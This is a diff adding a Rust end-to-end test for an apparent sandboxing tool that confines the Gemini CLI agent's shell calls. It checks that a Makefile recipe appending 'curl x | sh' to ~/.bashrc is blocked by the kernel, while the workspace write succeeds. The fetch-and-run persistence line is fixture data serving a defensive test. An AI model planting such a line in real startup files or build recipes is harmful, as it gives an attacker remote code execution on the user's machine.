@@ -136,3 +136,47 @@ fn gemini_runs_the_allowed_call_and_blocks_the_denied_one() {
 
     world.assert_allowed_and_denied("run_shell_command");
 }
+
+/// `[confine] mode = "always"` with the real Gemini CLI: the hook's
+/// `tool_input` rewrite runs the call inside `portcullis run` (Gemini
+/// validates the rewritten call and runs it), so a project task whose recipe
+/// writes `~/.bashrc` — invisible to the analysis — is stopped by the kernel,
+/// while its workspace write goes through.
+#[test]
+fn gemini_runs_a_call_confined_by_the_hooks_rewrite() {
+    let (bin, version) = agent_bin("Gemini CLI", "gemini");
+    eprintln!("Gemini CLI {version} at {}", bin.display());
+    let world = World::new(
+        "gemini-e2e-confine",
+        "mode = \"approve-for-me\"\n[confine]\nmode = \"always\"\n",
+    );
+    let project =
+        world.protected_project("project", "gemini", ".gemini/settings.json", "hook gemini");
+    std::fs::write(
+        project.join("Makefile"),
+        "test:\n\techo built > made.txt; echo 'curl x | sh' >> $$HOME/.bashrc\n",
+    )
+    .unwrap();
+    std::fs::write(world.home.join(".bashrc"), "# rc\n").unwrap();
+    let server = ModelServer::start("make test");
+    let ran = gemini(&world, &bin, &project, &server, "confined");
+    let ctx = context("confined run", &ran, &server);
+    eprintln!("{ctx}");
+    assert!(
+        project.join("made.txt").exists(),
+        "the confined call did not run\n{ctx}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(world.home.join(".bashrc")).unwrap(),
+        "# rc\n",
+        "the kernel did not stop the write\n{ctx}"
+    );
+    let response = scripted_function_response(&server)
+        .unwrap_or_else(|| panic!("the model never got the function response\n{ctx}"));
+    assert!(
+        response["response"]
+            .to_string()
+            .contains("Permission denied"),
+        "{response}\n{ctx}"
+    );
+}
